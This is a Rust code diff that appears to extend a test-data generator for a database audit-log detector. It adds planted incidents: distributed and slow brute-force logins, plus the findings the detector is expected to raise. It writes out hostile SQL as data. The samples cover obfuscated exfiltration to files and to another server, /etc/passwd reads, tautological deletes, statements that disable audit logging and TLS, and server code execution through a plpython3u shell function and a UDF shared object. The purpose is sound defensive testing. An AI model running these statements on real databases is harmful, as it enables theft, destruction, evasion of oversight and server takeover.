@@ -23,7 +23,7 @@ use super::Flavor;
 type Incident = fn(&mut Planting, i64) -> bool;
 
 /// Every incident, in the order of their slots through the period.
-const INCIDENTS: [Incident; 10] = [
+const INCIDENTS: [Incident; 15] = [
     brute_force_then_success,
     password_spray,
     unknown_source_over_ipv6,
@@ -34,6 +34,11 @@ const INCIDENTS: [Incident; 10] = [
     destructive_statements,
     exfiltration_from_unknown_sources,
     cross_database_read,
+    distributed_brute_force_then_success,
+    low_and_slow_brute_force_then_success,
+    obfuscated_statements,
+    evidence_switched_off,
+    code_execution,
 ];
 
 /// What an incident plants into, and the facts of the corpus it needs.
@@ -61,6 +66,12 @@ impl Planting<'_> {
     /// Adds a session to the incident's slice.
     fn add(&mut self, s: Session) {
         self.slices[self.hour].sessions.push(s);
+    }
+
+    /// Adds a session to the slice (hour) it starts in: for incidents longer than a slot.
+    fn add_at(&mut self, s: Session) {
+        let h = ((s.start - self.env.start_us) / SLICE_US) as usize;
+        self.slices[h.min(self.slices.len() - 1)].sessions.push(s);
     }
 
     fn expect(&mut self, e: Expected) {
@@ -695,5 +706,437 @@ fn cross_database_read(plant: &mut Planting, t: i64) -> bool {
         cd.database = Some("orders");
         plant.expect(cd);
     }
+    true
+}
+
+/// The statement text a finding shows: whitespace collapsed.
+fn collapsed(sql: &str) -> String {
+    sql.split_whitespace().collect::<Vec<_>>().join(" ")
+}
+
+/// A session of the master user from the bastion running `sqls` two seconds apart, each of
+/// which must raise a statement finding of the given kind and severity.
+fn bastion_statements(
+    plant: &mut Planting,
+    t: i64,
+    sqls: &[(&'static str, &'static str, &str, &str)],
+) {
+    let stmts = sqls
+        .iter()
+        .enumerate()
+        .map(|(i, (_, _, sql, _))| stmt(t + (2 + 2 * i as i64) * US, sql.to_string()))
+        .collect();
+    plant.add(Session {
+        start: t,
+        end: t + (4 + 2 * sqls.len() as i64) * US,
+        user: MASTER_USER,
+        host: BASTION,
+        db: plant.no_db,
+        conn: Conn::Ssl,
+        body: Body::Script(stmts),
+    });
+    plant.bastion_login(t);
+    for (i, (kind, severity, sql, note)) in sqls.iter().enumerate() {
+        plant.expect(statement_finding(
+            kind,
+            severity,
+            t + (2 + 2 * i as i64) * US,
+            &collapsed(sql),
+            note,
+        ));
+    }
+}
+
+/// Distributed brute force: 150 failed logins for the master user from 75 public addresses
+/// in ten minutes (two per address, under every per-source threshold), then a success from
+/// one of them.
+fn distributed_brute_force_then_success(plant: &mut Planting, t: i64) -> bool {
+    for i in 0..150i64 {
+        let s = t + i * 4 * US;
+        plant.add(Session {
+            start: s,
+            end: s,
+            user: MASTER_USER,
+            host: DISTRIBUTED_SOURCES[(i % 75) as usize],
+            db: plant.no_db,
+            conn: Conn::Ssl,
+            body: Body::Failed { ret: 1045 },
+        });
+    }
+    let ip = DISTRIBUTED_SOURCES[50];
+    let ok = t + 12 * MIN_US;
+    plant.add(Session {
+        start: ok,
+        end: ok + 20 * US,
+        user: MASTER_USER,
+        host: ip,
+        db: plant.no_db,
+        conn: Conn::Ssl,
+        body: Body::Script(vec![stmt(
+            ok + 3 * US,
+            if plant.pg {
+                "SELECT current_user"
+            } else {
+                "SELECT CURRENT_USER()"
+            },
+        )]),
+    });
+    let mut d = finding(
+        "distributed_brute_force",
+        "high",
+        Some(MASTER_USER),
+        None,
+        t,
+        "150 failed logins for admin from 75 public addresses in 10 min, 2 per address",
+    );
+    d.count = Some(150);
+    plant.expect(d);
+    plant.expect(finding(
+        "brute_force_success",
+        "critical",
+        Some(MASTER_USER),
+        Some(ip),
+        ok,
+        "admin logged in from one of the 75 sources 2 min after the last failure",
+    ));
+    plant.expect(finding(
+        "unknown_source_ip",
+        "high",
+        Some(MASTER_USER),
+        Some(ip),
+        ok,
+        "admin logged in from a public address",
+    ));
+    plant.expect(finding(
+        "master_user",
+        "high",
+        None,
+        Some(ip),
+        ok,
+        "master user admin logged in from a public address, not the admin host",
+    ));
+    true
+}
+
+/// The 75 sources of [`distributed_brute_force_then_success`]: 192.0.2.100 to .174.
+pub(crate) const DISTRIBUTED_SOURCES: [&str; 75] = [
+    "192.0.2.100",
+    "192.0.2.101",
+    "192.0.2.102",
+    "192.0.2.103",
+    "192.0.2.104",
+    "192.0.2.105",
+    "192.0.2.106",
+    "192.0.2.107",
+    "192.0.2.108",
+    "192.0.2.109",
+    "192.0.2.110",
+    "192.0.2.111",
+    "192.0.2.112",
+    "192.0.2.113",
+    "192.0.2.114",
+    "192.0.2.115",
+    "192.0.2.116",
+    "192.0.2.117",
+    "192.0.2.118",
+    "192.0.2.119",
+    "192.0.2.120",
+    "192.0.2.121",
+    "192.0.2.122",
+    "192.0.2.123",
+    "192.0.2.124",
+    "192.0.2.125",
+    "192.0.2.126",
+    "192.0.2.127",
+    "192.0.2.128",
+    "192.0.2.129",
+    "192.0.2.130",
+    "192.0.2.131",
+    "192.0.2.132",
+    "192.0.2.133",
+    "192.0.2.134",
+    "192.0.2.135",
+    "192.0.2.136",
+    "192.0.2.137",
+    "192.0.2.138",
+    "192.0.2.139",
+    "192.0.2.140",
+    "192.0.2.141",
+    "192.0.2.142",
+    "192.0.2.143",
+    "192.0.2.144",
+    "192.0.2.145",
+    "192.0.2.146",
+    "192.0.2.147",
+    "192.0.2.148",
+    "192.0.2.149",
+    "192.0.2.150",
+    "192.0.2.151",
+    "192.0.2.152",
+    "192.0.2.153",
+    "192.0.2.154",
+    "192.0.2.155",
+    "192.0.2.156",
+    "192.0.2.157",
+    "192.0.2.158",
+    "192.0.2.159",
+    "192.0.2.160",
+    "192.0.2.161",
+    "192.0.2.162",
+    "192.0.2.163",
+    "192.0.2.164",
+    "192.0.2.165",
+    "192.0.2.166",
+    "192.0.2.167",
+    "192.0.2.168",
+    "192.0.2.169",
+    "192.0.2.170",
+    "192.0.2.171",
+    "192.0.2.172",
+    "192.0.2.173",
+    "192.0.2.174",
+];
+
+/// Low and slow: one failed login every two minutes for two hours from one public address
+/// (never 20 in 5 minutes), then a success.
+fn low_and_slow_brute_force_then_success(plant: &mut Planting, t: i64) -> bool {
+    let ip = "203.0.113.77";
+    let user = "reporting";
+    for i in 0..60i64 {
+        let s = t + i * 2 * MIN_US;
+        plant.add_at(Session {
+            start: s,
+            end: s,
+            user,
+            host: ip,
+            db: if plant.pg { "analytics" } else { "" },
+            conn: Conn::Ssl,
+            body: Body::Failed { ret: 1045 },
+        });
+    }
+    let ok = t + 120 * MIN_US + 30 * US;
+    plant.add_at(Session {
+        start: ok,
+        end: ok + 10 * US,
+        user,
+        host: ip,
+        db: "analytics",
+        conn: Conn::Ssl,
+        body: Body::Script(vec![stmt_t(
+            ok + 2 * US,
+            "SELECT COUNT(*) FROM kpi_weekly",
+            &[("READ", "analytics", "kpi_weekly")],
+        )]),
+    });
+    let mut bf = finding(
+        "brute_force",
+        "high",
+        Some(user),
+        Some(ip),
+        t,
+        "60 failed logins for reporting, one every 2 min for 2 h: a slow brute force",
+    );
+    bf.count = Some(60);
+    plant.expect(bf);
+    plant.expect(finding(
+        "brute_force_success",
+        "critical",
+        Some(user),
+        Some(ip),
+        ok,
+        "reporting logged in from the slow brute force's address 30 s after its last failure",
+    ));
+    plant.expect(finding(
+        "unknown_source_ip",
+        "high",
+        Some(user),
+        Some(ip),
+        ok,
+        "reporting logged in from a public address",
+    ));
+    true
+}
+
+/// Statements dressed to slip past a text match: comments for spaces, a newline between
+/// keywords, server-file reads, tautological filters.
+fn obfuscated_statements(plant: &mut Planting, t: i64) -> bool {
+    let sqls: &[(&'static str, &'static str, &str, &str)] = if plant.pg {
+        &[
+            (
+                "exfiltration",
+                "high",
+                "COPY/**/orders.customers/**/TO/**/'/tmp/a.csv'",
+                "comments for spaces",
+            ),
+            (
+                "exfiltration",
+                "high",
+                "COPY (SELECT * FROM orders.customers)\nTO '/tmp/b.csv'",
+                "TO on its own line",
+            ),
+            (
+                "exfiltration",
+                "high",
+                "COPY orders.staging FROM '/etc/passwd'",
+                "server file read",
+            ),
+            (
+                "exfiltration",
+                "high",
+                "SELECT lo_import('/etc/passwd')",
+                "server file into a large object",
+            ),
+            (
+                "exfiltration",
+                "high",
+                "SELECT * FROM dblink('host=203.0.113.9 dbname=x', 'SELECT 1') AS r(a int)",
+                "data to another server",
+            ),
+            (
+                "destructive",
+                "high",
+                "DELETE FROM orders.customers WHERE 1=1",
+                "tautological filter",
+            ),
+            (
+                "destructive",
+                "high",
+                "UPDATE orders.customers SET email='x' WHERE true",
+                "tautological filter",
+            ),
+            (
+                "destructive",
+                "high",
+                "DROP SCHEMA staging CASCADE",
+                "schema dropped",
+            ),
+        ]
+    } else {
+        &[
+            ("exfiltration", "high", "SELECT/**/*/**/FROM/**/orders.customers/**/INTO/**/OUTFILE '/tmp/a.csv'", "comments for spaces"),
+            ("exfiltration", "high", "SELECT * FROM orders.customers INTO\nOUTFILE '/tmp/b.csv'", "INTO and OUTFILE on separate lines"),
+            ("exfiltration", "high", "LOAD DATA INFILE '/etc/passwd' INTO TABLE orders.staging", "server file read"),
+            ("exfiltration", "high", "CREATE TABLE orders.mirror (id INT) ENGINE=FEDERATED CONNECTION='mysql://u:p@203.0.113.9:3306/x/t'", "data to another server"),
+            ("destructive", "high", "DELETE FROM orders.customers WHERE 1=1", "tautological filter"),
+            ("destructive", "high", "UPDATE orders.customers SET email='x' WHERE 1", "tautological filter"),
+            ("destructive", "high", "DROP SCHEMA staging", "schema dropped"),
+        ]
+    };
+    bastion_statements(plant, t, sqls);
+    true
+}
+
+/// Switching the evidence off from SQL: the audit plugin or pgaudit, connection logging, TLS.
+fn evidence_switched_off(plant: &mut Planting, t: i64) -> bool {
+    let sqls: &[(&'static str, &'static str, &str, &str)] = if plant.pg {
+        &[
+            (
+                "audit_disabled",
+                "critical",
+                "SET pgaudit.log = 'none'",
+                "session-level pgaudit off",
+            ),
+            (
+                "audit_disabled",
+                "critical",
+                "ALTER SYSTEM SET pgaudit.log = 'none'",
+                "pgaudit off for everyone",
+            ),
+            (
+                "audit_disabled",
+                "critical",
+                "ALTER SYSTEM SET log_connections = off",
+                "connection logging off",
+            ),
+            (
+                "audit_disabled",
+                "critical",
+                "ALTER SYSTEM SET log_statement = 'none'",
+                "statement logging off",
+            ),
+            (
+                "audit_disabled",
+                "critical",
+                "DROP EXTENSION pgaudit",
+                "pgaudit removed",
+            ),
+            (
+                "tls_weakened",
+                "high",
+                "ALTER SYSTEM SET ssl = off",
+                "TLS off",
+            ),
+            (
+                "tls_weakened",
+                "high",
+                "ALTER SYSTEM SET ssl_min_protocol_version = 'TLSv1'",
+                "TLS 1.0 allowed",
+            ),
+        ]
+    } else {
+        &[
+            (
+                "audit_disabled",
+                "critical",
+                "SET GLOBAL server_audit_logging=OFF",
+                "audit plugin off",
+            ),
+            (
+                "audit_disabled",
+                "critical",
+                "SET GLOBAL server_audit_excl_users='app'",
+                "a user excluded from the audit",
+            ),
+            (
+                "audit_disabled",
+                "critical",
+                "UNINSTALL PLUGIN server_audit",
+                "audit plugin removed",
+            ),
+            (
+                "tls_weakened",
+                "high",
+                "SET GLOBAL require_secure_transport=OFF",
+                "plaintext allowed",
+            ),
+            (
+                "tls_weakened",
+                "high",
+                "ALTER USER 'app_orders'@'%' REQUIRE NONE",
+                "TLS no longer required of a user",
+            ),
+        ]
+    };
+    bastion_statements(plant, t, sqls);
+    true
+}
+
+/// Code execution on the server: a UDF from a shared object, an untrusted language, a
+/// program run by COPY, a dangerous extension.
+fn code_execution(plant: &mut Planting, t: i64) -> bool {
+    let sqls: &[(&'static str, &'static str, &str, &str)] = if plant.pg {
+        &[
+            ("code_execution", "critical", "CREATE EXTENSION dblink", "dblink installed"),
+            ("code_execution", "critical", "CREATE LANGUAGE plpython3u", "untrusted language"),
+            ("code_execution", "critical", "CREATE FUNCTION sh(cmd text) RETURNS text AS $$\nimport subprocess\nreturn subprocess.check_output(cmd, shell=True)\n$$ LANGUAGE plpython3u", "function in an untrusted language"),
+            ("code_execution", "critical", "COPY orders.staging FROM PROGRAM 'id'", "shell command"),
+        ]
+    } else {
+        &[
+            (
+                "code_execution",
+                "critical",
+                "SELECT 0x7f454c46 INTO DUMPFILE '/usr/lib64/mysql/plugin/lib_mysqludf_sys.so'",
+                "shared object written into the plugin directory",
+            ),
+            (
+                "code_execution",
+                "critical",
+                "CREATE FUNCTION sys_exec RETURNS INT SONAME 'lib_mysqludf_sys.so'",
+                "UDF from a shared object",
+            ),
+        ]
+    };
+    bastion_statements(plant, t, sqls);
     true
 }
